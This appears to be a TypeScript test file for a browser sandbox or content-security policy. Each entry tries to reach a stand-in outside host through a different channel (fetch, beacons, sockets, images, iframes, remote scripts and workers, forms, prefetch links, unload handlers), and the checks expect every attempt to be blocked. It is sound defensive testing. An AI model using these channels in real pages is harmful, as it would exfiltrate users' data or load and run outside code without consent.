import type { Attacks } from './attack.js';

/** Ways to send something to a server other than the API. None may reach it. */
export const attacksElsewhere: Attacks = {
  'fetches from elsewhere': {
    failing: ['fetch', 'opaque', 'kept alive', 'to its own server', 'XHR'],
    program: async ({ attempt, api, elsewhere, succeed }) => {
      const xhr = (): Promise<unknown> =>
        new Promise((resolve, reject) => {
          const request = new XMLHttpRequest();
          request.onload = resolve;
          request.onerror = reject;
          request.open('GET', `${elsewhere}/xhr`);
          request.send();
        });
      await attempt('fetch', () => fetch(`${elsewhere}/fetch`));
      await attempt('opaque', () => fetch(`${elsewhere}/opaque`, { mode: 'no-cors' }));
      await attempt('kept alive', () =>
        fetch(`${elsewhere}/kept`, { mode: 'no-cors', method: 'POST', keepalive: true }),
      );
      await attempt('to its own server', () => fetch(`${api}/fetch`, { mode: 'no-cors' }));
      await attempt('XHR', xhr);
      await attempt('beacon', () => navigator.sendBeacon(`${elsewhere}/beacon`, 'x'));
      succeed();
    },
    check({ others }, expect) {
      expect(others).to.deep.equal([]);
    },
  },

  'opens sockets and streams': {
    program: async ({ attempt, elsewhere, succeed }) => {
      const opened = (source: EventTarget): Promise<unknown> =>
        new Promise((resolve, reject) => {
          source.addEventListener('open', resolve);
          source.addEventListener('error', reject);
        });
      const { WebTransport } = window as unknown as Record<string, new (url: string) => any>;
      await attempt('socket', () => opened(new WebSocket(elsewhere.replace('http', 'ws'))));
      await attempt('stream', () => opened(new EventSource(`${elsewhere}/stream`)));
      await attempt('transport', () => new WebTransport!(elsewhere.replace('http', 'https')).ready);
      succeed();
    },
    failing: ['socket', 'stream', 'transport'],
  },

  'shows pictures, sounds and frames from elsewhere': {
    // It connects before it looks at the policy.
    connectsIn: ['Chromium'],
    program: async ({ attempt, elsewhere, succeed }) => {
      const load = (html: string): Promise<unknown> =>
        new Promise((resolve, reject) => {
          document.documentElement.insertAdjacentHTML('beforeend', html);
          const element = document.documentElement.lastElementChild!;
          element.addEventListener('load', () => resolve('loaded'));
          element.addEventListener('error', reject);
          setTimeout(reject, 100);
        });
      const url = `${elsewhere}/shown`;
      await attempt('image', () => load(`<img src="${url}">`));
      await attempt('set', () => load(`<img srcset="${url} 1x">`));
      await attempt('video', () => load(`<video src="${url}" poster="${url}" autoplay></video>`));
      await attempt('audio', () => load(`<audio src="${url}" autoplay></audio>`));
      await attempt('track', () => load(`<video><track default src="${url}"></video>`));
      await attempt('frame', () => load(`<iframe src="${url}"></iframe>`));
      await attempt('object', () => load(`<object data="${url}"></object>`));
      await attempt('embed', () => load(`<embed src="${url}">`));
      await attempt('input', () => load(`<input type="image" src="${url}">`));
      await attempt('drawing', () =>
        load(`<svg><image href="${url}"/><use href="${url}#a"/></svg>`),
      );
      await attempt('nested', () => load(`<iframe srcdoc="<img src='${url}'>"></iframe>`));
      succeed();
    },
  },

  'loads styles and fonts from elsewhere': {
    program: async ({ attempt, elsewhere, succeed }) => {
      const root = document.documentElement;
      const url = `${elsewhere}/style`;
      await attempt('link', () => {
        root.insertAdjacentHTML('beforeend', `<link rel="stylesheet" href="${url}">`);
      });
      await attempt('import', () => {
        root.insertAdjacentHTML('beforeend', `<style>@import "${url}";</style>`);
      });
      await attempt('background', () => {
        root.style.background = `url(${url})`;
        return getComputedStyle(root).background;
      });
      await attempt('sheet', () => {
        const sheet = new CSSStyleSheet();
        sheet.replaceSync(`* { background: url(${url}); cursor: url(${url}), auto }`);
        document.adoptedStyleSheets = [sheet];
        return root.getBoundingClientRect().width;
      });
      await attempt('font', () => new FontFace('x', `url(${url})`).load());
      await attempt('worklet', () => (CSS as any).paintWorklet.addModule(url));
      succeed();
    },
    failing: ['font', 'worklet'],
  },

  'runs programs from elsewhere': {
    program: async ({ attempt, elsewhere, succeed }) => {
      const url = `${elsewhere}/program.js`;
      const script = (type: string, text = ''): Promise<unknown> =>
        new Promise((resolve, reject) => {
          const element = document.createElement('script');
          element.type = type;
          element.onload = resolve;
          element.onerror = reject;
          if (text) element.text = text;
          else element.src = url;
          document.documentElement.append(element);
          setTimeout(reject, 200);
        });
      const rules = `{"prefetch":[{"source":"list","urls":["${url}"]}]}`;
      const worker = (url: string): Promise<unknown> =>
        new Promise((resolve, reject) => {
          const started = new Worker(url);
          started.onmessage = resolve;
          started.onerror = reject;
        });
      const blob = URL.createObjectURL(new Blob([`importScripts("${url}"); postMessage(1)`]));
      await attempt('script', () => script('text/javascript'));
      await attempt('module', () => script('module'));
      await attempt('rules', () => script('speculationrules', rules));
      await attempt('inline', () => script('text/javascript', 'window.inline = 1'));
      await attempt('import', () => new Function(`return import("${url}")`)());
      await attempt('worker', () => worker(url));
      await attempt('worker of its own', () => worker(blob));
      await attempt('data worker', () => worker(`data:text/javascript,importScripts("${url}")`));
      await attempt('shared worker', () => {
        const { onerror } = new SharedWorker(url);
        return onerror;
      });
      succeed();
    },
    failing: ['script', 'module', 'rules', 'import', 'worker', 'worker of its own', 'data worker'],
  },

  'sends forms and pings': {
    program: async ({ attempt, elsewhere, succeed }) => {
      const put = (html: string): HTMLElement => {
        document.documentElement.insertAdjacentHTML('beforeend', html);
        return document.documentElement.lastElementChild as HTMLElement;
      };
      const url = `${elsewhere}/form`;
      for (const method of ['get', 'post']) {
        for (const target of ['_self', '_blank', 'inner']) {
          await attempt(`${method} ${target}`, () => {
            put('<iframe name="inner"></iframe>');
            const html = `<form action="${url}" method="${method}" target="${target}"></form>`;
            (put(html) as HTMLFormElement).submit();
          });
        }
      }
      await attempt('ping', () =>
        put(`<a href="about:blank" target="_blank" ping="${url}">x</a>`).click(),
      );
      succeed();
    },
  },

  'has things prefetched': {
    program: async ({ attempt, elsewhere, note, succeed }) => {
      const url = `${elsewhere}/ahead`;
      const kinds = ['prefetch', 'prerender', 'modulepreload', 'icon', 'manifest', 'subresource'];
      const links = kinds.map((rel) => `<link rel="${rel}" href="${url}">`);
      for (const as of ['script', 'image', 'fetch', 'style', 'font', 'document']) {
        links.push(`<link rel="preload" as="${as}" href="${url}">`);
      }
      for (const link of links) {
        await attempt(link, () => document.documentElement.insertAdjacentHTML('beforeend', link));
      }
      await note('a little later');
      succeed();
    },
  },

  'has connections opened': {
    connectsIn: ['Chromium', 'WebKit'],
    program: async ({ attempt, elsewhere, note, succeed }) => {
      for (const rel of ['preconnect', 'dns-prefetch']) {
        const link = `<link rel="${rel}" href="${elsewhere}">`;
        await attempt(rel, () => document.documentElement.insertAdjacentHTML('beforeend', link));
      }
      await note('a little later');
      succeed();
    },
  },

  'sends something on its way out': {
    program: async ({ elsewhere, succeed }) => {
      const leave = (): void => {
        navigator.sendBeacon(`${elsewhere}/out`, 'x');
        void fetch(`${elsewhere}/out`, { mode: 'no-cors', keepalive: true }).catch(() => {});
        new Image().src = `${elsewhere}/out`;
        window.open(`${elsewhere}/out`);
        location.href = `${elsewhere}/out`;
      };
      for (const type of ['pagehide', 'unload', 'visibilitychange']) {
        addEventListener(type, leave);
        document.addEventListener(type, leave);
      }
      succeed();
    },
  },
};
